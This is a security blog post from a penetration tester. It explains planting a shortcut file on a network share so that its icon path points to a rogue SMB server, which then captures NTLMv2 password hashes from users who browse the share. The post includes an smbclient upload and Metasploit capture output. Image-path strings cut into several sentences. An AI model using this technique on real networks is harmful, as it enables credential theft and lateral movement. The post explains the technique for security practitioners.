Blogs & Stories

SpiderLabs Blog

Attracting more than a half-million annual readers, this is the security community's go-to destination for technical breakdowns of the latest threats, critical vulnerability disclosures and cutting-edge research.

You down with LNK?

Oftentimes on an Internal pen test, I find myself with a limited-privilege domain user account. On a recent test, I got ahold of an account like this through various means of hackery. It didn't have local admin anywhere, it wasn't a member of any IT groups; it was just a super low privilege user from the Marketing department. The only real privilege it had was write access to the Marketing share. In a quest to gather more user accounts, I decided to abuse my write access to the share and drop a backdoored shortcut file.

The idea here is that we can create a random shortcut file that goes nowhere, but pulls its icon image from a remote share. When a domain user visits the marketing share with the malicious LNK file in it, Windows tries to load up all the pretty icons for the files on the share. In our case, Windows tries to grab the icon for our malicious LNK file, sees that it's on another share, and attempts to auth to the remote share to get the icon file. That remote share just so happens to be our rogueSMB server (running static challenges for Rainbow Tables goodness, of course).

Lets get to work.
Fire up a Windows machine to create a random shortcut file, and then edit the settings to have it pull its icon image from a local network share. Then, use a hex editor to swap the IP and sharename to point to our SMB listener:

Screen Shot 2012-12-13 at 1.49.11 PM

Now, lets drop this file on our Marketing share:

# smbclient -U BANANASTAND/user%pass //[BANANASTAND] OS=[EMC-PEEL] Server=[COLDSTORAGE1]smb: \> put trustwave.lnkputting file trustwave.lnk as \trustwave.lnk (58.0 kb/s) (average 58.0 kb/s)smb: \> dir  .                                   D        0  Wed Mar 28 14:07:44 2012  Thumbs.db                          HS    94208  Tue Mar  6 09:56:01 2012  Sales Folder                        D        0  Thu Mar  8 11:36:10 2012  SCANNED CONTRACTS.lnk                      210  Mon Feb 13 12:52:04 2012  Shortcut to Sales Folder.lnk               279  Fri Oct 21 09:15:08 2011  Client folderD        0  Tue Mar 20 15:49:35 2012  trustwave.lnk                        A      475  Wed Mar 28 14:07:44 2012  Sales Folder - Shortcut.lnk                635  Tue Mar  6 09:55:09 201256721 blocks of size 8388608. 12215 blocks availableGreat! When anyone visits the marketing share, they will see this inconspicuous shortcut file:

BananaStand Marketing Share

By the time they see it, their goose has already been cooked (er...hacked?). Their workstation has already gone hunting for the icon file located on our rogue SMB share:

msf  auxiliary(smb) >[*] SMB Captured - 2012-12-10 12:32:00 -0500NTLMv2 Response Captured from - DOMAIN:BANANASTAND OS: LM:LMHASH:Disabled LM_CLIENT_CHALLENGE:DisabledNTHASH:5630qw4fwer7013acf5665bre2d2weab8NT_CLIENT_CHALLENGE:0101000000000000sdfh22353yk2356jl450239r7ebwe093ew00000000020000000000000000000000

That's it. By simply tricking a user into browsing a share, we can grab their password hash and start crackin' (or smb_relay them, if you are feeling lucky). What's nice about this attack is that it isn't limited to your local broadcast net like ARP Spoofing or any of the NBNS/ LLMNR trickery. Its also pretty stealthy, there is nopop up boxes or error messages - Windows tries to auth to the SMB server, fails to get the icon file, and just moves on.This gives you the opportunity to quietlycollect password hashes from several other users and propagatethroughout the networknicely. Mmmmm, hashes.